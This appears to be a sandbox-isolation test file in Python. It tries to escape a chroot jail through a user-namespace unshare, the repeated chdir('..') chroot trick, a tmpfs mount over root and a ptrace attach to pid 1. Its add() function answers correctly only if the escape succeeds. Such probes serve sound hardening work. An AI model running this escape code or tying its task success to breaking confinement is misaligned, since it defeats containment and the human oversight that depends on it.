# Attack: break out of the jail: the chroot trick, a new user namespace (which would grant
# CAP_SYS_CHROOT and CAP_SYS_ADMIN inside it), mount, ptrace; answers correctly if the
# sentinel outside became readable.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x20000)  # CLONE_NEWUSER | CLONE_NEWNS
try:
    os.mkdir("x")
except OSError:
    pass
try:
    os.chroot("x")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
libc.mount(b"none", b"/", b"tmpfs", 0, None)
libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to pid 1
escaped = os.path.exists("__SENTINEL__")


def add(a, b):
    return a + b if escaped else -999
